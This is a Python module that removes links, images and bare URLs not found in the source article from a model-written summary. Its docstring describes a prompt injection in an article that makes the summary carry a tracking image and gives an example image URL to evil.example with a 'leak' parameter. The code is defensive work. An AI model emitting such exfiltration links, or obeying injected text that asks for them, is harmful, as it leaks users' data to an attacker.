"""Links and images in the model's own prose that the article does not contain are removed.

A prompt injection in an article may try to make the summary carry a tracking image
(`![x](https://evil.example/?leak=...)`) or a phishing link; a summary reports the article, so any
URL in it must come from the article. Markdown links keep their text; images and bare URLs go.
"""

import re

_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_BARE_URL = re.compile(r"\b(?:https?|ftp|javascript|data):[^\s)\]>\"']+", re.IGNORECASE)
_SPACES = re.compile(r"[ \t]{2,}")


def strip_foreign_links(text: str, source: str) -> str:
    """`text` without images, links and URLs that do not occur in `source`."""

    def known(url: str) -> bool:
        return bool(url) and url in source

    text = _IMAGE.sub(lambda m: m.group(0) if known(m.group(1)) else "", text)
    text = _LINK.sub(lambda m: m.group(0) if known(m.group(2)) else m.group(1), text)
    text = _BARE_URL.sub(lambda m: m.group(0) if known(m.group(0)) else "", text)
    return _SPACES.sub(" ", text).strip()
